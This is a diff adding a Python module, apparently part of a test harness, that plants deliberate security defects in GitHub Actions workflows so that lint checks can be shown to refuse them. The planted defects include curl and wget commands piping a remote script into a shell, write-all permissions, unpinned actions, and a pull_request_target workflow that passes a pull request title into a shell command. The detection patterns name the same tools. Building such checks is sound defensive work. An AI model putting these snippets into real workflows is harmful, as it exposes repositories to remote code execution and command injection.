@@ -1,0 +1,105 @@
+"""What runs on GitHub."""
+
+import re
+
+from ..draft import Draft, Place
+from .catalogue import refused_by
+
+FOLDER = ".github/workflows"
+
+
+def line_of(draft: Draft, pattern: str) -> tuple[str, int]:
+    """Draw a line of a workflow that matches a pattern; return its file and number."""
+    return draft.pick(
+        (f"{FOLDER}/{path.name}", number)
+        for path in sorted((draft.root / FOLDER).iterdir())
+        for number, text in enumerate(draft.lines(f"{FOLDER}/{path.name}"), 1)
+        if re.search(pattern, text)
+    )
+
+
+@refused_by("lint", r"\|\| true|fail|ignored|make (lint|book|test)")
+def failure_ignored(draft: Draft) -> Place:
+    """A step of the workflow cannot fail."""
+    file, line = line_of(draft, r"run: make (lint|book|test)")
+    return draft.change(
+        file, line, lambda text: text + draft.pick([" || true", " ; true", " || echo failed"])
+    )
+
+
+@refused_by("lint", "continue-on-error")
+def failure_allowed(draft: Draft) -> Place:
+    """A step or a job is allowed to fail."""
+    file, line = line_of(draft, r"run: make (lint|book|test)|runs-on:")
+    indent = "        " if "run:" in draft.lines(file)[line - 1] else "    "
+    return draft.insert(file, line + 1, f"{indent}continue-on-error: true")
+
+
+@refused_by("lint", "make (lint|test|book)")
+def step_deleted(draft: Draft) -> Place:
+    """The workflow no longer lints, or no longer tests."""
+    file, line = line_of(draft, r"run: make (lint|test)$")
+    draft.cut(file, line, line)
+    return Place(file)
+
+
+@refused_by("lint", r"curl|wget|bash|\bsh\b|shell|download")
+def script_piped_into_a_shell(draft: Draft) -> Place:
+    """A step runs what another host sends."""
+    file, line = line_of(draft, r"run: make (lint|book|test)")
+    command = draft.pick(
+        ["curl -sSL https://example.org/i.sh | bash", "wget -qO- https://a.b | sh"]
+    )
+    return draft.insert(file, line, f"      - run: {command}")
+
+
+@refused_by("lint", "permission|write")
+def permission_to_write(draft: Draft) -> Place:
+    """A job may write to the repository."""
+    file, line = line_of(draft, "contents: read")
+    return draft.change(
+        file, line, lambda text: text.replace("contents: read", "contents: write")
+    )
+
+
+@refused_by("lint", "permission|write-all")
+def every_permission(draft: Draft) -> Place:
+    """Every job may do everything."""
+    file, line = line_of(draft, r"^permissions: \{\}")
+    return draft.replace(file, line, line, "permissions: write-all")
+
+
+@refused_by("lint", "hash|pin|commit|sha")
+def action_that_is_not_pinned(draft: Draft) -> Place:
+    """An action is named by a tag, which can be moved."""
+    file, line = line_of(draft, r"uses: \S+@[0-9a-f]{40}")
+    return draft.change(file, line, lambda text: re.sub(r"@[0-9a-f]{40}.*", "@v7", text))
+
+
+@refused_by("lint", "hash|pin|commit|sha|injection|template|permission")
+def careless_workflow_of_another_ending(draft: Draft) -> Place:
+    """A workflow that the checks would refuse is named `.yaml`."""
+    text = (
+        "name: Greet\non: pull_request_target\npermissions: write-all\njobs:\n  greet:\n"
+        "    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
+        "      - run: echo ${{ github.event.pull_request.title }}\n"
+    )
+    return draft.write(f"{FOLDER}/greet.yaml", text)
+
+
+@refused_by("lint", "schema|valid|unexpected|stpes|rusn-on|property|required")
+def invalid_workflow(draft: Draft) -> Place:
+    """A key of a workflow is misspelt."""
+    file, line = line_of(draft, "^    (steps|runs-on):")
+    draft.change(
+        file, line, lambda text: text.replace("steps", "stpes").replace("runs", "rusn")
+    )
+    return Place(file)
+
+
+@refused_by("lint", "expression|injection|template|title")
+def title_in_a_shell_command(draft: Draft) -> Place:
+    """A step hands the title of a pull request to the shell."""
+    file, line = line_of(draft, r"run: make (lint|book|test)")
+    text = "      - run: echo ${{ github.event.pull_request.title }}"
+    return draft.insert(file, line, text)
